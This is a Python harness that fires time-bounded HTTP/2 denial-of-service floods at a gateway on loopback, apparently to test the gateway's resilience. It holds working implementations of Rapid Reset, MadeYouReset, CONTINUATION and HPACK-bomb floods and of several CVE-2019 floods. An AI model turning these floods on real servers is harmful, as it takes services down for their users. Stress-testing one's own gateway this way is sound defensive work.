"""HTTP/2 floods on a gateway of our own, on loopback, bounded in time.

    floods.py NAME[,NAME…] PORT TLSNAME SECONDS CONNECTIONS

TLSNAME `-` means prior knowledge in plaintext. Each connection (of each flood named) has a thread that does what the
flood says until its time is over; one that the gateway ends is opened anew. At the end one line of JSON is printed:

    {NAME: {"units": what was sent, "opened": connections, "ended": {how: n}, "answers": {frame: n}, "refused": n}, …}

`units` counts the flood's own unit (pairs, frames, streams); `ended` says how connections ended: the name of the error
of a GOAWAY, `closed` without one, or `open` as the time was over.
"""

import collections
import json
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AUTHORITY = "flood.example.com"


class Ended(Exception):
    """The gateway has ended the connection."""


def block(path, method="GET", extra=()):
    """A header block that needs no dynamic table, so that it can be sent on any connection."""
    fields = [(":method", method), (":scheme", "https"), (":authority", AUTHORITY), (":path", path), *extra]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value) for name, value in fields], huffman=False)


def headers(stream, data, end_stream=True, end_headers=True):
    flags = [name for name, on in (("END_STREAM", end_stream), ("END_HEADERS", end_headers)) if on]
    return frames.HeadersFrame(stream, data=data, flags=flags).serialize()


def raw(kind, flags, stream, payload=b""):
    """A frame that the library would not write."""
    return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


class Connection:
    """A socket that sends frames and counts what comes back."""

    def __init__(self, flood, settings=None, greet=True, receive_buffer=None):
        self.flood = flood
        plain = socket.socket()
        if receive_buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        plain.settimeout(5)
        plain.connect(("127.0.0.1", flood.port))
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if flood.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            plain = context.wrap_socket(plain, server_hostname=flood.tls)
        self.socket = plain
        self.rest = b""
        self.next = 1
        self.goaway = None
        self.settled = False
        if greet:
            self.send(PREFACE + frames.SettingsFrame(0, settings=settings or {}).serialize())

    def stream(self):
        self.next += 2
        return self.next - 2

    def send(self, data):
        """Sends all of it, reading meanwhile; a gateway that takes nothing for a second is left alone."""
        view = memoryview(data)
        while view:
            if self.flood.over():
                raise TimeoutError
            try:
                self.socket.settimeout(0.2)
                view = view[self.socket.send(view):]
            except (TimeoutError, ssl.SSLWantWriteError):
                pass
            except (OSError, ssl.SSLError) as error:
                # What the gateway has said before it closed may still be there.
                self.read_quietly()
                raise Ended from error

    def read_quietly(self):
        try:
            while True:
                self.read()
        except (Ended, BlockingIOError):
            pass

    def read(self, wait=0.0):
        """Reads once, if there is anything; True if there was."""
        self.socket.settimeout(wait)
        try:
            data = self.socket.recv(1 << 18)
        except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
            if wait == 0.0:
                return False
            return False
        except OSError as error:
            raise Ended from error
        if not data:
            raise Ended
        self.rest += data
        at = 0
        while len(self.rest) >= at + 9:
            length = int.from_bytes(self.rest[at:at + 3], "big")
            if len(self.rest) < at + 9 + length:
                break
            self.saw(self.rest[at + 3], self.rest[at + 4], self.rest[at + 9:at + 9 + length])
            at += 9 + length
        self.rest = self.rest[at:]
        return True

    def saw(self, kind, flags, payload):
        name = frames.FRAMES[kind].__name__ if kind in frames.FRAMES else str(kind)
        self.flood.answers[name] += 1
        if kind == frames.SettingsFrame.type and not flags & 1 and not self.settled:
            self.settled = True
            self.send(frames.SettingsFrame(0, flags=["ACK"]).serialize())
        if kind == frames.GoAwayFrame.type:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = h2.errors.ErrorCodes(code).name if code <= 13 else str(code)
            if code:
                raise Ended

    def drain(self):
        """Reads all that is there."""
        while self.read():
            pass

    def close(self):
        try:
            self.socket.close()
        except OSError:
            pass


class Flood:
    def __init__(self, name, port, tls, seconds, connections):
        self.port, self.tls = port, None if tls == "-" else tls
        self.end = time.monotonic() + seconds
        self.run, self.connections = FLOODS[name], connections
        self.units, self.opened, self.refused = 0, 0, 0
        self.ended, self.answers = collections.Counter(), collections.Counter()

    def over(self):
        return time.monotonic() >= self.end

    def thread(self):
        while not self.over():
            connection = None
            try:
                try:
                    connection = Connection(self, **getattr(self.run, "settings", {}))
                except (OSError, Ended):
                    self.refused += 1
                    time.sleep(0.05)
                    continue
                self.opened += 1
                for sent in self.run(connection):
                    self.units += sent
                    if self.over():
                        break
                connection.drain()
                self.ended["open"] += 1
            except TimeoutError:
                self.ended[connection.goaway or "open"] += 1
            except Ended:
                self.ended[connection.goaway or "closed"] += 1
                # A real attacker would pause less; this one shares the machine with what it attacks.
                time.sleep(0.02)
            finally:
                if connection:
                    connection.close()

    def start(self):
        self.threads = [threading.Thread(target=self.thread, daemon=True) for _ in range(self.connections)]
        for thread in self.threads:
            thread.start()

    def result(self):
        for thread in self.threads:
            thread.join(max(0.0, self.end - time.monotonic()) + 8)
        return {
            "units": self.units, "opened": self.opened, "refused": self.refused,
            "ended": dict(self.ended), "answers": dict(self.answers),
        }


def main(names, port, tls, seconds, connections):
    floods = {name: Flood(name, int(port), tls, float(seconds), int(connections)) for name in names.split(",")}
    for one in floods.values():
        one.start()
    print(json.dumps({name: one.result() for name, one in floods.items()}), flush=True)


FLOODS = {}


def flood(name, **settings):
    def register(run):
        run.settings = settings
        FLOODS[name] = run
        return run
    return register


# ---- streams that begin and end at once

@flood("rapid-reset")
def rapid_reset(c):
    """CVE-2023-44487: requests that are cancelled as soon as they are sent."""
    request = block("/rapid-reset")
    while True:
        ids = [c.stream() for _ in range(50)]
        c.send(b"".join(headers(i, request) + frames.RstStreamFrame(i, 8).serialize() for i in ids))
        c.drain()
        yield 50


@flood("rapid-reset-late")
def rapid_reset_late(c):
    """The same, but each request gets a moment in which it reaches the backend."""
    request = block("/delay/2000")
    while True:
        ids = [c.stream() for _ in range(50)]
        c.send(b"".join(headers(i, request) for i in ids))
        c.read(0.03)
        c.send(b"".join(frames.RstStreamFrame(i, 8).serialize() for i in ids))
        c.drain()
        yield 50


def made_to_reset(illegal, end_stream):
    request = block("/delay/2000", "GET" if end_stream else "POST")

    def run(c):
        while True:
            ids = [c.stream() for _ in range(20)]
            c.send(b"".join(headers(i, request, end_stream) + illegal(i) for i in ids))
            c.drain()
            yield 20
    return run


# CVE-2025-8671: the client makes the gateway reset streams, whose requests go on at the backend.
flood("made-you-reset-window-zero")(made_to_reset(lambda i: raw(8, 0, i, bytes(4)), True))
flood("made-you-reset-window-overflow")(made_to_reset(lambda i: raw(8, 0, i, b"\x7f\xff\xff\xff"), True))
flood("made-you-reset-half-closed-data")(made_to_reset(lambda i: raw(0, 0, i, b"x"), True))
flood("made-you-reset-half-closed-headers")(made_to_reset(lambda i: headers(i, block("/again")), True))
flood("made-you-reset-priority-self")(made_to_reset(lambda i: raw(2, 0, i, struct.pack(">LB", i, 1)), True))
flood("made-you-reset-priority-short")(made_to_reset(lambda i: raw(2, 0, i, bytes(4)), True))
flood("made-you-reset-length")(
    lambda c: made_to_reset_by_length(c))


def made_to_reset_by_length(c):
    request = block("/delay/2000", "POST", [("content-length", "1")])
    while True:
        ids = [c.stream() for _ in range(20)]
        c.send(b"".join(headers(i, request, False) + raw(0, 1, i, b"two") for i in ids))
        c.drain()
        yield 20


# ---- headers

@flood("continuation")
def continuation(c):
    """CVE-2024-27316: a header that does not end."""
    i = c.stream()
    c.send(headers(i, block("/continuation"), end_headers=False))
    piece = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(f"x-{n}", "y" * 100) for n in range(140)], huffman=False)
    while True:
        c.send(frames.ContinuationFrame(i, data=piece[:16384]).serialize())
        c.drain()
        yield 1


@flood("continuation-empty")
def continuation_empty(c):
    """The same of frames without a byte."""
    i = c.stream()
    c.send(headers(i, block("/continuation"), end_headers=False))
    while True:
        c.send(raw(9, 0, i) * 1000)
        c.drain()
        yield 1000


@flood("hpack-bomb")
def hpack_bomb(c):
    """CVE-2016-6581: one byte stands for a field of 4000, 15,000 times."""
    i = c.stream()
    c.send(headers(i, block("/hpack") + b"\x40\x05x-big\x7f" + b"\xa1\x1e" + b"v" * 4000))
    bomb = block("/hpack") + b"\xbe" * 15000
    while True:
        c.send(headers(c.stream(), bomb))
        c.drain()
        yield 1


@flood("hpack-table-resize")
def hpack_table_resize(c):
    """The dynamic table grows and shrinks within each block."""
    request = b"\x20\x3f\xe1\x1f" + block("/resize")
    while True:
        c.send(b"".join(headers(c.stream(), request) for _ in range(20)))
        c.drain()
        yield 20


@flood("header-crumbs")
def header_crumbs(c):
    """Thousands of tiny cookies in each request: two bytes on the wire each, a field of its own in memory."""
    request = block("/crumbs") + b"\x40\x06cookie\x01a" + b"\xbe" * 8000
    while True:
        c.send(headers(c.stream(), request))
        c.drain()
        yield 1


@flood("empty-header-names")
def empty_header_names(c):
    """CVE-2019-9516: fields whose name and value have no byte."""
    request = block("/empty") + b"\x00\x00\x00" * 4000
    while True:
        c.send(headers(c.stream(), request))
        c.drain()
        yield 1


# ---- frames that ask for an answer, or for nothing

def frames_flood(one, count=500, read=True):
    def run(c):
        data = one * count
        while True:
            c.send(data)
            if read:
                c.drain()
            yield count
    return run


# CVE-2019-9515, -9512, and the same by a client that reads no answer.
flood("settings")(frames_flood(frames.SettingsFrame(0, settings={3: 100}).serialize()))
flood("settings-unread", receive_buffer=4096)(frames_flood(frames.SettingsFrame(0, settings={3: 100}).serialize(), read=False))
flood("ping")(frames_flood(frames.PingFrame(0, b"pingpong").serialize()))
flood("ping-unread", receive_buffer=4096)(frames_flood(frames.PingFrame(0, b"pingpong").serialize(), read=False))
flood("window-update")(frames_flood(frames.WindowUpdateFrame(0, 1).serialize() + raw(8, 0, 0, b"\0\0\0\1")))
flood("unknown-frames")(frames_flood(raw(0xFA, 0, 0, b"x" * 8)))


@flood("priority")
def priority(c):
    """CVE-2019-9513: the tree of priorities is built anew all the time."""
    c.send(b"".join(headers(c.stream(), block("/delay/2000")) for _ in range(50)))
    data = b"".join(raw(2, 0, i, struct.pack(">LB", (i + 4) % 100 | 1, 7)) for i in range(1, 100, 2) if (i + 4) % 100 | 1 != i)
    while True:
        c.send(data * 10)
        c.drain()
        yield 500


@flood("empty-data")
def empty_data(c):
    """CVE-2019-9518: DATA frames without a byte that do not end the stream."""
    i = c.stream()
    c.send(headers(i, block("/empty-data", "POST"), end_stream=False))
    while True:
        c.send(raw(0, 0, i) * 500)
        c.drain()
        yield 500


@flood("padded-data")
def padded_data(c):
    """DATA frames that are nothing but padding: they use up windows, and no body comes of them."""
    i = c.stream()
    c.send(headers(i, block("/padded", "POST"), end_stream=False))
    one = raw(0, 8, i, b"\xff" + bytes(255))
    while True:
        c.send(one * 50)
        c.drain()
        yield 50


# ---- responses that nobody takes

@flood("zero-window", settings={4: 0})
def zero_window(c):
    """Large responses to a client whose window is shut."""
    c.send(b"".join(headers(c.stream(), block("/bytes/4000000")) for _ in range(100)))
    while True:
        c.read(0.2)
        yield 0 if c.flood.over() else 1


@flood("dribble", settings={4: 0})
def dribble(c):
    """CVE-2019-9511: large responses, taken byte by byte."""
    c.send(b"".join(headers(c.stream(), block("/bytes/4000000")) for _ in range(100)))
    c.read(0.5)
    data = b"".join(frames.WindowUpdateFrame(i, 1).serialize() for i in range(1, 200, 2))
    while True:
        c.send(data)
        c.read(0.05)
        c.drain()
        yield 100


@flood("tcp-stall", settings={4: 0x7FFFFFFF}, receive_buffer=4096)
def tcp_stall(c):
    """CVE-2019-9517: all windows of HTTP/2 open, and the one of TCP shut."""
    c.send(raw(8, 0, 0, b"\x7f\x00\x00\x00"))
    c.send(b"".join(headers(c.stream(), block("/bytes/4000000")) for _ in range(100)))
    while True:
        time.sleep(0.2)
        yield 1


@flood("window-changes", settings={4: 0})
def window_changes(c):
    """A hundred responses wait while the initial window is changed to and fro."""
    c.send(b"".join(headers(c.stream(), block("/bytes/4000000")) for _ in range(100)))
    c.read(0.3)
    up, down = (frames.SettingsFrame(0, settings={4: size}).serialize() for size in (1, 0))
    while True:
        c.send((up + down) * 100)
        c.drain()
        yield 200


# ---- requests that do not end

@flood("endless-bodies")
def endless_bodies(c):
    """As many requests as the gateway lets a client have, each with a byte of its body now and then."""
    proper = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    proper.initiate_connection()
    c.send(proper.data_to_send())
    streams = []
    for _ in range(100):
        i = proper.get_next_available_stream_id()
        proper.send_headers(i, [(":method", "POST"), (":scheme", "https"), (":authority", AUTHORITY), (":path", "/endless")])
        streams.append(i)
    yield len(streams)
    while True:
        for i in streams:
            proper.send_data(i, b"x")
        c.send(proper.data_to_send())
        c.read(0.25)
        yield 0


endless_bodies.settings = {"greet": False}


@flood("silent", greet=False)
def silent(c):
    """A preface, and nothing after it."""
    c.send(PREFACE)
    while True:
        c.read(0.2)
        yield 0


if __name__ == "__main__":
    main(*sys.argv[1:])
